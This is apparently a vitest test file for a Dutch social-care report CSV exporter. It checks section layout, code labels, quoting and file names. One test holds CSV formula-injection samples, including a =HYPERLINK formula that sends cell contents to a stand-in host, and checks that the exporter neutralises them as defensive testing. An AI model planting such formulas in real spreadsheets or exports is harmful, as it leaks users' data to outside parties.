import { describe, expect, it } from 'vitest';
import { renderReportCsv, reportFileName, type ReportLabels } from './report-csv';
import { emptyPeriodCounts, emptyQuarterCounts } from './report-rules';
import type { AnnualReport } from './reports.schemas';

const labels: ReportLabels = {
  teams: { west: 'West', 'hoograven-tolsteeg': 'Hoograven / Tolsteeg' },
  codes: {
    referrers: { huisarts: 'Huisarts', onbekend: 'Onbekend' },
    close_reasons: { volgens_plan: 'Beëindigd volgens plan' },
    close_outcomes: { eigen_netwerk: 'Eigen netwerk' },
    first_meeting_locations: { thuis: 'Thuis' },
    provision_categories: { begeleiding: 'Begeleiding' },
    provision_products: { iab_groot: 'Individuele ambulante begeleiding grote aanbieders' },
    zrm_types: { nul: 'Nulmeting (bij de start)' },
  },
};

function report(): AnnualReport {
  const started = emptyPeriodCounts();
  started.months[0] = 2;
  started.quarters[0] = 2;
  started.year = 2;
  return {
    year: 2016,
    cases: { started, running: emptyPeriodCounts(), closed: emptyPeriodCounts() },
    teams: { west: { started, running: emptyPeriodCounts(), closed: emptyPeriodCounts(), unique_clients: { quarters: [3, 0, 0, 0], year: 3 } } },
    unique_clients: { quarters: [3, 0, 0, 0], year: 3 },
    days_to_first_meeting: { by_location: { thuis: { months: [4.5, null, null, null, null, null, null, null, null, null, null, null] } }, quarters: [4.5, null, null, null], year: 4.5 },
    started_by_referrer: { huisarts: { quarters: [2, 0, 0, 0], year: 2 }, onbekend: emptyQuarterCounts() },
    closed_by_reason: { volgens_plan: emptyQuarterCounts(), meerdere_redenen: { quarters: [0, 1, 0, 0], year: 1 }, onbekend: emptyQuarterCounts() },
    clients_by_outcome: { eigen_netwerk: { quarters: [0, 1, 0, 0], year: 1 } },
    provisions: {
      new_by_provider: { begeleiding: { 'Stichting "Zorg", Utrecht': { quarters: [1, 0, 0, 0], year: 1 } } },
      new_by_product: { begeleiding: { iab_groot: { quarters: [1, 0, 0, 0], year: 1 } } },
      extensions: { quarters: [0, 0, 2, 0], year: 2 },
      clients_with_new_provision: { year: 1 },
    },
    satisfaction: { distribution: { '1': 0, '2': 0, '3': 0, '4': 0, '5': 0, '6': 0, '7': 0, '8': 1, '9': 0, '10': 0 }, responses: 1, mean: 8, can_continue_alone_pct: null },
    zrm: { nul: emptyPeriodCounts() },
  };
}

/** The rows of the section with this title (up to the next empty line). */
function section(csv: string, title: string): string[] {
  const blocks = csv.trimEnd().split('\n\n').map((b) => b.split('\n'));
  const block = blocks.find((b) => b[0] === title);
  if (!block) throw new Error(`no section ${title}`);
  return block.slice(1);
}

describe('renderReportCsv', () => {
  const csv = renderReportCsv(report(), labels);

  it('opens with a title and gives every table a title row, a header row and its rows', () => {
    expect(csv.split('\n')[0]).toBe('Jaarverslag 2016');
    expect(section(csv, 'Casussen')).toEqual([
      'Indicator,jan,feb,mrt,apr,mei,jun,jul,aug,sep,okt,nov,dec,K1,K2,K3,K4,Jaar',
      'Gestart,2,0,0,0,0,0,0,0,0,0,0,0,2,0,0,0,2',
      'Lopend,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
      'Afgesloten,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0',
    ]);
    expect(csv.endsWith('\n')).toBe(true);
  });

  it('shows Dutch labels for codes, the bucket labels, and the code where no label is known', () => {
    expect(section(csv, 'Unieke cliënten per team')).toEqual(['Team,K1,K2,K3,K4,Jaar', 'West,3,0,0,0,3', 'Totaal (som over teams),3,0,0,0,3']);
    expect(section(csv, 'Aanmeldingen per melder')).toEqual(['Melder,K1,K2,K3,K4,Jaar', 'Huisarts,2,0,0,0,2', 'Onbekend,0,0,0,0,0']);
    expect(section(csv, 'Afgesloten casussen per reden')).toEqual([
      'Reden,K1,K2,K3,K4,Jaar',
      'Beëindigd volgens plan,0,0,0,0,0',
      '(meerdere redenen),0,1,0,0,1',
      'Onbekend,0,0,0,0,0',
    ]);
    expect(section(csv, 'Nieuwe maatwerkvoorzieningen per product')[1]).toBe('Begeleiding,Individuele ambulante begeleiding grote aanbieders,1,0,0,0,1');
  });

  it('quotes cells with commas or quotes and leaves null cells empty', () => {
    expect(section(csv, 'Nieuwe maatwerkvoorzieningen per aanbieder')[1]).toBe('Begeleiding,"Stichting ""Zorg"", Utrecht",1,0,0,0,1');
    expect(section(csv, 'Dagen tot kennismakingsgesprek (gemiddeld)')).toEqual([
      'Locatie,jan,feb,mrt,apr,mei,jun,jul,aug,sep,okt,nov,dec,K1,K2,K3,K4,Jaar',
      'Thuis,4.5,,,,,,,,,,,,,,,,',
      'Alle locaties,,,,,,,,,,,,,4.5,,,,4.5',
    ]);
    expect(section(csv, 'Tevredenheid bij afsluiting').slice(-3)).toEqual(['Aantal antwoorden,1', 'Gemiddeld cijfer,8', 'Kan zelf verder (% ja),']);
  });

  it('writes a text a spreadsheet would run as a formula as text, and numbers (also negative ones) as numbers', () => {
    const hostile = report();
    hostile.provisions.new_by_provider = {
      begeleiding: { '=HYPERLINK("http://x.example/?d="&A1,"klik")': { quarters: [1, 0, 0, 0], year: 1 }, '@SUM(A1:A9)': emptyQuarterCounts(), "'s-Hertogenbosch Zorg": emptyQuarterCounts() },
    };
    hostile.days_to_first_meeting.year = -0.5;
    const rows = section(renderReportCsv(hostile, { ...labels, teams: { west: '+31 30 123 45 67' } }), 'Nieuwe maatwerkvoorzieningen per aanbieder');
    expect(rows.slice(1)).toEqual([
      'Begeleiding,"\'=HYPERLINK(""http://x.example/?d=""&A1,""klik"")",1,0,0,0,1',
      "Begeleiding,'@SUM(A1:A9),0,0,0,0,0",
      "Begeleiding,'s-Hertogenbosch Zorg,0,0,0,0,0",
    ]);
    const again = renderReportCsv(hostile, { ...labels, teams: { west: '+31 30 123 45 67' } });
    expect(section(again, 'Unieke cliënten per team')[1]).toBe("'+31 30 123 45 67,3,0,0,0,3");
    expect(section(again, 'Dagen tot kennismakingsgesprek (gemiddeld)')[2]).toBe('Alle locaties,,,,,,,,,,,,,4.5,,,,-0.5');
  });

  it('names the scope of a quarterly team report in its title', () => {
    expect(renderReportCsv(report(), labels, { quarter: 2, team: 'hoograven-tolsteeg' }).split('\n')[0]).toBe('"Kwartaalrapportage 2016 (t/m kwartaal 2, team Hoograven / Tolsteeg)"');
  });
});

describe('reportFileName', () => {
  it('names annual, quarterly and team reports as the web app does', () => {
    expect(reportFileName({ year: 2016 }, 'csv')).toBe('jaarverslag-2016.csv');
    expect(reportFileName({ year: 2016, quarter: 2, team: 'west' }, 'csv')).toBe('kwartaalrapportage-2016-k2-west.csv');
    expect(reportFileName({ year: 2016, team: 'west' }, 'csv')).toBe('jaarverslag-2016-west.csv');
  });
});
